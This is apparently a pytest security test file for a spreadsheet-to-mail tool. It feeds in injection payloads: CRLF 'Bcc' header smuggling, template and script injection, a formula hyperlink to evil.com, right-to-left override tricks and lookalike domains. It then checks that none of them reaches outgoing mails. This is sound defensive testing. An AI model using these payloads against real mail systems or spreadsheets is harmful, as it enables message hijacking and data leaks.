"""What must not reach a mail: hostile cells through whole runs, and every mail of the demo that goes outside."""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from demo_workspaces import make_small_demo
from registers import ASSESSED, NOW, PRODUCTS, people_rows
from workspace_state import mails, queue

from qtemplate.config import default_toml, load_config
from qtemplate.fields import PUBLIC, Field
from qtemplate.jobs.run import run
from qtemplate.mailer.words.kinds import KINDS
from qtemplate.register import Register, label_of
from qtemplate.report.run_report import RunReport
from qtemplate.sheets import open_book, read_register, read_rulebook
from qtemplate.sheets.standard import build_workbook

SECRET = "内部保密值"
SECRETS = ("first_guess", "notes", "root_cause")
FULL = "满" * 32_767
"""As much as a cell can hold."""

HOSTILE: dict[str, dict[str, Any]] = {
    "line ends": {"title": "屏幕不亮\r\nBcc: eve@evil.com\r\n\r\n<h1>hi</h1>", "reporter": "张伟\r\nBcc: eve@evil.com"},
    "template": {
        "title": "{{ 7 * 7 }} {% raw %} 屏幕不亮",
        "description": "{{ row.notes }}{{ config }} 屏幕完全不亮，按键没有反应。",
    },
    "script": {"title": "<script>alert(1)</script>", "reporter": "<img src=x onerror=alert(1)>"},
    "file": {"title": "/etc/hostname", "description": "/etc/hostname", "reply_text": "/etc/hostname"},
    "formula": {
        "title": '=HYPERLINK("http://evil.com","屏幕不亮")',
        "reporter": "=1+1",
        "description": "@SUM(A1:A9) +1 -2 屏幕不亮了很多次",
    },
    "full cell": {"description": FULL, "reply_text": FULL},
    "names": {"reporter": "欧阳😀娜娜👩‍🔧", "title": "屏幕😵不亮了"},
    "right to left": {"title": "屏幕\u202egnp.exe不亮", "reporter": "\u202e伟张\u2066"},
}  # fmt: skip
COMMON = {
    "authenticity": "misuse",
    "reply_type": "declined",
    "reply_text": "该功能暂无计划。",
    "contact_way": "email",
    "reply_approval": "approved",
    **dict.fromkeys(SECRETS, SECRET),
}


def parsed(data: bytes) -> EmailMessage:
    mail = message_from_bytes(data, policy=policy.default)
    assert isinstance(mail, EmailMessage)
    assert not mail.defects
    return mail


def part(mail: EmailMessage, kind: str) -> str:
    body = mail.get_body((kind,))
    assert body is not None
    return str(body.get_content())


def night(folder: Path, people: list[dict[str, Any]], rows: list[dict[str, Any]]) -> tuple[Path, RunReport]:
    """One run on a register of these people and rows; (workspace, report)."""
    folder.mkdir()
    book = build_workbook("zh", people=people, products=PRODUCTS, rows=rows)
    (folder / "register.xlsx").write_bytes(book)
    text = default_toml("zh", "Asia/Shanghai", None, allow_domains=("example.com", "corp.cn"), max_per_run=1000)
    (folder / "qtemplate.toml").write_text(text, "utf-8")
    return folder, run(load_config(folder / "qtemplate.toml"), NOW)


def test_hostile_cells_give_correct_mails_or_a_finding(tmp_path: Path) -> None:
    rows = [
        row | {"reporter": "张伟"} | hostile
        for hostile in HOSTILE.values()
        for row in (ASSESSED | dict.fromkeys(SECRETS, SECRET), ASSESSED | COMMON)
    ]
    folder, report = night(tmp_path / "w", people_rows(), rows)
    states = queue(folder)
    assert set(states.values()) == {"sent"}
    refused = {item.id for item in report.findings if item.code == "QT520"}
    for at, name in enumerate(HOSTILE):
        ids = {f"QF-2026-{2 * at + 1:04d}", f"QF-2026-{2 * at + 2:04d}"}
        made = {kind for kind, id, *_ in (key.split("/") for key in states) if id in ids}
        assert {"M01", "M03", "M16"} <= made or ids & refused, name
    for file, data in mails(folder).items():
        mail = parsed(data)
        assert {key for key in mail if key.lower() in ("bcc", "cc")} == set(), file
        assert all(address.domain == "example.com" for address in mail["To"].addresses), file
        for header in ("Subject", "To"):
            assert not re.search("[\r\n\u202a-\u202e\u2066-\u2069]", str(mail[header])), file
        page = part(mail, "html")
        assert "<script" not in page and "<img" not in page and "<h1>hi" not in page, file
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", page + part(mail, "plain")), file
        assert "49" not in str(mail["Subject"]), file
        if "M01" in file or "M16" in file:
            assert list(mail.iter_attachments()) == [], file
            assert SECRET not in page + part(mail, "plain") + str(mail["Subject"]), file
            assert Path("/etc/hostname").read_text("utf-8").strip() not in part(mail, "plain"), file


def test_a_template_in_a_cell_stays_text(tmp_path: Path) -> None:
    folder, _ = night(tmp_path / "w", people_rows(), [ASSESSED | {"reporter": "张伟", **HOSTILE["template"]}])
    (mail,) = [parsed(data) for file, data in mails(folder).items() if "M03" in file]
    assert "{{ 7 * 7 }}" in str(mail["Subject"])
    assert "{{ row.notes }}" in part(mail, "plain")


def test_names_in_the_people_sheet_cannot_write_headers(tmp_path: Path) -> None:
    people = people_rows(
        sun={"name": "孙浩\r\nBcc: eve@evil.com"},
        tang={"name": '唐"宁" <eve@evil.com>,'},
        du={"name": "杜鹃", "mail": "du@corp.cn.evil.com"},
        lin={"name": "林静😀"},
    )
    row = ASSESSED | {"owner": "孙浩\r\nBcc: eve@evil.com", "department": "生产部", "recorder": None}
    folder, report = night(tmp_path / "w", people, [row, ASSESSED | {"received_at": NOW.replace(day=10)}])
    for file, data in mails(folder).items():
        mail = parsed(data)
        assert "bcc" not in {key.lower() for key in mail}, file
        assert all(address.domain == "example.com" for address in mail["To"].addresses), file
    held = [key for key in queue(folder) if key.endswith("@corp.cn.evil.com")]
    assert all(queue(folder)[key] == "held" for key in held)
    assert len(held) == len([item for item in report.findings if item.code == "QT521"])


ADDRESSES: dict[str, str | None] = {
    "zhang@corp.cn.evil.com": "held",
    "zhang@evilcorp.cn": "held",
    "zhang@corp.cn": "sent",
    "zhang@corp.cn\r\nBcc: eve@evil.com": None,
    "zhang@corp.cn, eve@evil.com": None,
    '"zhang@corp.cn" <eve@evil.com>': None,
}
"""What stands in the cell 邮箱 -> the state of the mail to it."""


def test_only_listed_domains_get_mail_and_one_cell_is_one_address(tmp_path: Path) -> None:
    rows = [ASSESSED | {"email": address, "title": f"第 {at} 台屏幕不亮"} for at, address in enumerate(ADDRESSES)]
    folder, report = night(tmp_path / "w", people_rows(), rows)
    states, ids = queue(folder), [f"QF-2026-{at:04d}" for at in range(1, 1 + len(ADDRESSES))]
    assert {address: states.get(f"M01/{id}") for address, id in zip(ADDRESSES, ids, strict=True)} == ADDRESSES
    assert all(b"evil" not in data for file, data in mails(folder).items() if not {"M02", "M03", "M25"} & {file[:3]})
    for (address, state), id in zip(ADDRESSES.items(), ids, strict=True):
        codes = {item.code for item in report.findings if item.id == id}
        assert codes & {"QT521", "QT122"} or state == "sent", address


def in_words(register: Register, row: int, keys: Iterable[str]) -> list[str]:
    """The texts of some cells, as a person of either language reads them."""
    values = [(key, register.value(row, key)) for key in keys]
    return [
        str(label_of(key, value, tongue)) for key, value in values if isinstance(value, str) for tongue in ("zh", "en")
    ]


@pytest.mark.parametrize("language", ["zh", "en"])
def test_no_mail_of_the_demo_to_an_outsider_holds_what_is_not_public(demo: Path, tmp_path: Path, language: str) -> None:
    folder = demo if language == "zh" else make_small_demo(tmp_path / "demo", language)
    register = read_register(open_book(folder / "register.xlsx"))
    rows = {register.value(int(row), Field.ID): int(row) for row in register.frame.index}
    private = [key for key in register.frame.columns if key not in PUBLIC]
    inside = {person.mail for person in read_rulebook(open_book(folder / "register.xlsx")).people}
    seen = 0
    for file, data in mails(folder).items():
        mail = parsed(data)
        to = {address.addr_spec for address in mail["To"].addresses}
        assert to <= inside or KINDS[file.split("_")[0]].outside, file
        if to <= inside:
            continue
        seen += 1
        row = rows[re.search(r"QF-\d{4}-\d{4}", str(mail["Subject"]))[0]]  # type: ignore[index]
        page = re.sub(r"<style.*?</style>", "", part(mail, "html"), flags=re.DOTALL)
        shown = part(mail, "plain") + html.unescape(page)
        public = in_words(register, row, PUBLIC)
        for key in private:
            for value in in_words(register, row, [key]):
                told = any(value in text for text in public) or len(value) < 5
                assert told or value not in shown, (file, key)
    assert seen > 30
